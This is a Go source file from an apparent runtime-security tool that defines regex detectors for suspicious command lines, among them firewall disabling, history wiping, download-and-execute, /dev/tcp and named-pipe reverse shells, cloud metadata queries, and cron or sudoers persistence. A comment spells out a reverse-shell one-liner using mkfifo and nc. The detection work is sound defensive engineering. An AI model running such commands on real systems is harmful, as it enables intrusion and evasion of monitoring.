package detect

import (
	"regexp"
	"strings"

	"github.com/mamori-dev/mamori/internal/event"
)

// Command-line detectors: the four SuspiciousCommand families. Patterns
// match the whole argv joined with spaces, which for `sh -c SCRIPT` is the
// script itself, so pipelines are seen as written.

type cmdPattern struct {
	typ      string
	severity float64 // 0: the catalogue's
	what     string  // context: which defence or technique
	re       *regexp.Regexp
	needles  []string // see needles.go
	// container limits the pattern to containers (host admins run it).
	container bool
}

func pat(typ string, sev float64, what, re string) cmdPattern {
	return cmdPattern{typ: typ, severity: sev, what: what, re: regexp.MustCompile(re), needles: needlesOf(re)}
}

// inContainer limits p to containers.
func inContainer(p cmdPattern) cmdPattern {
	p.container = true
	return p
}

const (
	tDefense   = "DefenseEvasion:Runtime/SuspiciousCommand"
	tDiscovery = "Discovery:Runtime/SuspiciousCommand"
	tExecution = "Execution:Runtime/SuspiciousCommand"
	tPersist   = "Persistence:Runtime/SuspiciousCommand"
	tPrivesc   = "PrivilegeEscalation:Runtime/SuspiciousCommand"
)

var cmdPatterns = []cmdPattern{
	// Defences switched off: severity by what is lost.
	pat(tDefense, 8, "firewall disabled", `(^|[;&| ])(iptables|ip6tables)(-legacy|-nft)? .*(-F|--flush)( |$)|(^|[;&| ])ufw disable|nft flush ruleset|systemctl (stop|disable|mask) (firewalld|ufw|nftables|iptables)`),
	pat(tDefense, 8, "SELinux/AppArmor disabled", `setenforce 0|aa-teardown|systemctl (stop|disable) apparmor`),
	pat(tDefense, 5, "crontab removed", `(^|[;&| ])crontab( -u \S+)? -r( |$)`),
	pat(tDefense, 5, "security service stopped", `(systemctl (stop|disable|mask)|service) \S*(auditd|falco|osqueryd|wazuh|crowdstrike|falcon|sysdig|mamori|amazon-guardduty|rsyslog|syslog)`),
	pat(tDefense, 2, "shell history wiped", `history -c|unset HISTFILE|HISTFILE=/dev/null|HISTSIZE=0|rm (-\S+ )*\S*_history|ln -sf? /dev/null \S*_history|(^|[^>])> ?\S*\.bash_history`),
	// Compromise patterns.
	pat(tExecution, 0, "download and execute", `(curl|wget)\s[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k)?sh\b|(curl|wget)\s.*-O-?\s*\S*\s*[;&]+\s*(ba)?sh\s`),
	pat(tExecution, 0, "decoded payload executed", `base64\s+(-d|--decode|-D)[^|]*\|\s*(ba|da|z)?sh\b|base64\s+(-d|--decode)[^|]*\|\s*(python|perl|php)`),
	pat(tExecution, 0, "dev/tcp connection", `/dev/(tcp|udp)/[0-9a-zA-Z.\-]+/[0-9]+`),
	// A shell wired to a network tool through a named pipe: the tool's
	// output feeds the shell and the shell's output goes back (mkfifo f;
	// cat f | sh -i 2>&1 | nc HOST PORT > f). No socket reaches the shell's
	// stdio, so the ReverseShell detector cannot see it.
	pat(tExecution, 8, "shell relayed to the network through a named pipe", relayPattern),
	pat(tExecution, 0, "scripted reverse connection", `(python[0-9.]*|perl|ruby|php)\s+-\S*[ce]\s.*socket.*(subprocess|pty|exec|dup2|spawn)`),
	pat(tExecution, 0, "payload made executable and run from a temp dir", `chmod\s+(\+x|[0-7]*[157][0-7]{2})\s+/(tmp|dev/shm|var/tmp)/\S+\s*(&&|;)\s*/(tmp|dev/shm|var/tmp)/`),
	// Discovery.
	pat(tDiscovery, 0, "cloud metadata queried", `169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254`),
	pat(tDiscovery, 0, "Kubernetes discovery", `kubectl\s+(.*\s)?(get|describe)\s+(secrets?|pods?|serviceaccounts?|nodes|clusterrolebindings?)|kubectl\s+auth\s+can-i`),
	inContainer(pat(tDiscovery, 0, "user or network enumeration",
		`^(getent passwd|cat /etc/passwd|compgen -u|arp -a|netstat -[a-z]*[ant][a-z]*|ss -[a-z]*[tu][a-z]*p|ip neigh|cat /proc/net/(tcp|arp))`)),
	// Persistence.
	pat(tPersist, 0, "cron job installed", `(^|[;&| ])crontab( -u \S+)? (-|/\S+)( |$)|echo .*>>?\s*/(etc/crontab|etc/cron\.d/|var/spool/cron/)`),
	pat(tPersist, 0, "service enabled", `systemctl (--now )?enable |update-rc\.d \S+ (defaults|enable)|chkconfig \S+ on|rc-update add `),
	// Privilege escalation.
	pat(tPrivesc, 0, "setuid bit set", `chmod\s+(-\S+\s+)*([ug]\+s|\+s|[2467][0-7]{3})\s`),
	pat(tPrivesc, 0, "capabilities granted", `setcap\s+\S*cap_(setuid|sys_admin|dac_override|sys_ptrace)`),
	pat(tPrivesc, 0, "user added to an admin group", `usermod\s+.*-a?G\s*\S*(sudo|wheel|docker|root|admin)`),
	pat(tPrivesc, 0, "sudoers edited by command", `>>?\s*/etc/sudoers`),
}

// relayPattern: a named pipe, then a shell piped to a network tool or the
// reverse. Either side may come through wrappers (busybox, toybox, env,
// timeout 9, exec, sudo, VAR=value, ...); a shell is a word of its own
// ("backup.sh" is not), spaced or not ("cat f|sh -i").
var relayPattern = func() string {
	wrap := `((\S*/)?(busybox|busybox-static|toybox|env|timeout|stdbuf|nohup|exec|setsid|nice|command|sudo)(\s+-\S+(\s+[A-Z0-9]+)?)*(\s+[A-Za-z_][A-Za-z0-9_]*=\S*)*(\s+[0-9.]+[smhd]?)?\s+)*`
	shell := `(\S*/)?((ba|da|z|k|a)?sh|hush)\b`
	net := `(\S*/)?(nc|ncat|netcat|socat|telnet|openssl)\b`
	return `(mkfifo|mknod\s+\S+\s+p)\s.*(^|[\s/|;&(])(` +
		`((ba|da|z|k|a)?sh|hush)\b[^|]*\|\s*` + wrap + net + `|` +
		`(nc|ncat|netcat|socat|telnet|openssl)\b[^|]*\|\s*` + wrap + shell + `)`
}()

func commands() Detector {
	types := []string{tDefense, tDiscovery, tExecution, tPersist, tPrivesc}
	return newFn("suspicious-command", Both, []event.Kind{event.KindExec}, types, func(ev *event.Event, hit func(Hit)) {
		x := ev.Exec
		if x == nil || len(x.Args) == 0 {
			return
		}
		// Container CLIs carry the command they run inside a container in
		// their own argv; the container side is what gets detected.
		if containerCLIs[progName(ev)] || wrapsContainerCLI(progName(ev), x.Args) {
			return
		}
		line := commandLine(x.Args)
		seen := map[string]bool{}
		for _, p := range cmdPatterns {
			if seen[p.typ] || (p.container && ev.Container == nil) || !mayMatch(line, p.needles) || !p.re.MatchString(line) {
				continue
			}
			seen[p.typ] = true
			hit(Hit{Type: p.typ, Severity: p.severity, KeyActor: p.what, Context: map[string]any{
				"commandLineExample": clipArgs(x.Args), "technique": p.what}})
		}
		// LD_PRELOAD pointing into a writable temp dir: a library takeover.
		if v := x.LDPreload; v != "" && under(v, "/tmp/", "/dev/shm/", "/var/tmp/", "/run/user/") && !seen[tDefense] {
			hit(Hit{Type: tDefense, Severity: 8, KeyActor: "LD_PRELOAD " + v, Context: map[string]any{
				"ldPreloadValue": v, "technique": "LD_PRELOAD takeover", "commandLineExample": clipArgs(x.Args)}})
		}
	})
}

// wrappers run another program with their own options before it
// (timeout 60 podman run ...).
var wrappers = map[string]bool{"timeout": true, "nice": true, "nohup": true, "sudo": true, "doas": true, "env": true,
	"stdbuf": true, "setsid": true, "ionice": true, "taskset": true, "chrt": true, "time": true}

// wrapsContainerCLI reports whether a wrapper runs a container CLI: the
// wrapped command line is the CLI's, whose script runs in the container.
func wrapsContainerCLI(prog string, args []string) bool {
	if !wrappers[prog] {
		return false
	}
	for _, a := range args[1:] {
		if strings.HasPrefix(a, "-") || strings.Contains(a, "=") {
			continue
		}
		if containerCLIs[baseName(a)] {
			return true
		}
		if !isDurationOrNumber(a) {
			return false // the wrapped program is something else
		}
	}
	return false
}

// isDurationOrNumber: a wrapper's own operand (timeout 60s, nice -n 5).
func isDurationOrNumber(s string) bool {
	s = strings.TrimRight(s, "smhd")
	if s == "" {
		return false
	}
	for _, c := range s {
		if (c < '0' || c > '9') && c != '.' && c != ',' {
			return false
		}
	}
	return true
}

var containerCLIs = map[string]bool{"podman": true, "docker": true, "kubectl": true, "crictl": true, "nerdctl": true,
	"ctr": true, "oc": true, "conmon": true}

// commandLine is what patterns see: for `sh -c SCRIPT` the script, else
// argv joined.
func commandLine(args []string) string {
	if len(args) >= 3 && shells[baseName(args[0])] {
		for i := 1; i < len(args)-1; i++ {
			if strings.HasPrefix(args[i], "-") && strings.Contains(args[i], "c") {
				return args[i+1]
			}
		}
	}
	return strings.Join(args, " ")
}

func baseName(s string) string {
	if i := strings.LastIndexByte(s, '/'); i >= 0 {
		return s[i+1:]
	}
	return s
}
